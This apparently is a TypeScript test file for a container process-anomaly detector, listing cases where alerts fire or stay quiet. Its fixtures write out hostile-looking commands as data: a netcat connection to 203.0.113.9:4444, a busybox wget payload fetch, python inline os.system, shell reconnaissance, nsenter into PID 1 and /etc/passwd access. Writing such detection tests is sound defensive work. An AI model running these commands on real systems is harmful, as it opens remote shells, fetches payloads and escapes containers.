/** Stories of new programs: which must fire, and which stay quiet. */
import { ecsTaskEvent, type Case } from '#contract';
import { at, fires, fileLine, init, master, ordinary, processLine, programAt, taught, teachUntil } from '../sightings.ts';

const dash = '/usr/bin/dash';
const check = ['/bin/sh', '-c', 'curl -fsS http://127.0.0.1:8080/health || exit 1'];
const gone = { arguments: [], lineage: [], foundBy: 'open' as const, userId: -1, realUserId: -1, parentUserId: -1 };

export const cases: Case[] = [
  {
    title: 'fires when the application starts a program nobody knows',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: '/tmp/.x', executable: 'writable-place', lineage: [dash, master, init] })],
    teachUntil,
    fires: [fires(80, '/tmp/.x', 'high')],
  },
  {
    title: 'fires when the application gives a shell text, though the shell is known to health checks and scripts',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: dash, arguments: ['sh', '-c', 'id; uname -a; cat /etc/hosts'] })],
    teachUntil,
    fires: [fires(80, /-c id uname/)],
  },
  {
    title: 'fires when a shell that is new runs under the application',
    records: [...taught, processLine(70, { program: '/usr/bin/bash', arguments: ['bash', '-c', 'sleep 1'] })],
    teachUntil,
    fires: [fires(70, '/bin/bash', 'medium')],
  },
  {
    title: 'fires when a known tool is started by the application itself for the first time',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: '/usr/bin/nc.openbsd', arguments: ['nc', '203.0.113.9', '4444'] }), processLine(81, { program: '/usr/bin/id', lineage: [dash, master, init] })],
    teachUntil,
    fires: [fires(80, '/bin/nc.openbsd', 'high'), fires(81, '/bin/id', 'medium')],
  },
  {
    title: 'fires when an interpreter runs inline code that it never ran',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: master, arguments: ['python3', '-c', 'import os;os.system("id")'] })],
    teachUntil,
    fires: [fires(80, /python3\.# -c import os/)],
  },
  {
    title: 'fires for a tool of intruders that is known by the opening of its file alone',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: '/usr/bin/whoami', ...gone })],
    teachUntil,
    fires: [fires(80, '/bin/whoami')],
  },
  {
    title: 'fires for an applet nobody ran, of a program with many',
    records: [
      ...taught,
      ...[5, 25, 45].map((second) => processLine(second, { program: programAt('/bin/busybox', 'sleep'), arguments: ['sleep', '3'] })),
      processLine(80, { program: programAt('/bin/busybox', 'wget'), arguments: ['wget', 'http://203.0.113.9/a'] }),
    ],
    teachUntil,
    fires: [fires(80, '/bin/busybox wget', 'high')],
  },
  {
    title: 'fires by names alone where paths cannot be read',
    records: [
      ...[0, 20, 40].map((second) => processLine(second, { program: programAt('', 'python3'), lineage: [programAt('', 'pause')], arguments: ['python3', '/app/server.py'], executable: 'unknown' })),
      ...[5, 25, 45].map((second) => processLine(second, { program: programAt('', 'sh'), lineage: [], arguments: check, executable: 'unknown' })),
      processLine(70, { program: programAt('', 'sh'), lineage: [programAt('', 'python3')], arguments: ['sh', '-c', 'nc 203.0.113.9 4444'], executable: 'unknown' }),
    ],
    teachUntil,
    fires: [fires(70, /nc/)],
  },
  {
    title: 'fires for what opens other namespaces, where somebody inside starts it',
    records: [...taught, processLine(80, { program: '/usr/bin/nsenter', arguments: ['nsenter', '-t', '1', '-m'], lineage: [dash, master, init] })],
    teachUntil,
    fires: [fires(80, '/bin/nsenter')],
  },
  {
    title: 'fires one step milder after a deployment',
    records: [
      ...taught,
      ecsTaskEvent({ at: at(62), id: 'deploy-1', service: 'checkout', task: 2, revision: 2, lastStatus: 'RUNNING' }),
      processLine(80, { program: '/usr/local/bin/report', lineage: [master, init] }),
    ],
    teachUntil,
    fires: [fires(80, '/usr/local/bin/report')],
  },
  {
    title: 'stays quiet for the same programs at ten times their number',
    records: [...taught, ...ordinary(60, 100, 10)],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for the same programs at a tenth of their number',
    records: [...taught, ...ordinary(60, 300, 0.1)],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for a step of a script that was too short to be seen before',
    records: [...taught, ...ordinary(60, 90), processLine(80, { program: '/usr/bin/sort', arguments: ['sort', '-u'], lineage: [dash, master, init] }), processLine(81, { program: '/usr/bin/wc', ...gone })],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for a known program whose parent could not be known, or that init took over',
    records: [...taught, processLine(70, { program: '/usr/bin/find', lineage: [] }), processLine(71, { program: '/usr/bin/gzip', lineage: [init] }), processLine(72, { program: '/usr/bin/curl', lineage: [] })],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for a known shell of which the kernel\'s name alone was read, for tools still under what hands them on, and for workers that init starts',
    records: [
      ...taught,
      processLine(30, { program: programAt(dash, 'sh'), arguments: check, lineage: [], parentUserId: -1 }),
      processLine(70, { program: programAt('', 'sh'), arguments: [], lineage: [], userId: -1, realUserId: -1, parentUserId: -1, executable: 'unknown' }),
      processLine(71, { program: '/usr/bin/curl', arguments: ['curl', '-fsS', 'http://127.0.0.1:8080/health'], lineage: ['/usr/bin/setpriv'] }),
      processLine(72, { program: '/usr/bin/find', arguments: ['find', '/var/cache', '-mtime', '+1'], lineage: ['/usr/bin/nice', '/usr/bin/tini'] }),
      processLine(74, { program: '/usr/bin/nsenter', arguments: ['nsenter', '-t', '1', '-p', 'sh'], lineage: [], parentUserId: -1 }),
      processLine(73, { program: master, arguments: ['python3.11', '/app/server.py'], lineage: ['/usr/bin/tini'] }),
    ],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for versions, dates and random parts of names that change',
    records: [
      ...taught,
      processLine(30, { program: '/app/releases/20260301/bin/render-1.4.2', lineage: [master, init] }),
      processLine(80, { program: '/app/releases/20260302/bin/render-1.5.0', lineage: [master, init] }),
    ],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for what the options name, and for what is no start of a program',
    records: [...taught, processLine(70, { program: '/opt/agent/run' }), processLine(71, { activity: 'busy', program: '/opt/elsewhere', seconds: 20 }), fileLine(72, { path: '/etc/passwd', concern: 'accounts' })],
    options: { usualPrograms: ['/opt/agent/run'] },
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet while it learns',
    records: [...ordinary(0, 60), processLine(70, { program: '/usr/bin/nc.openbsd' })],
    fires: [],
  },
];
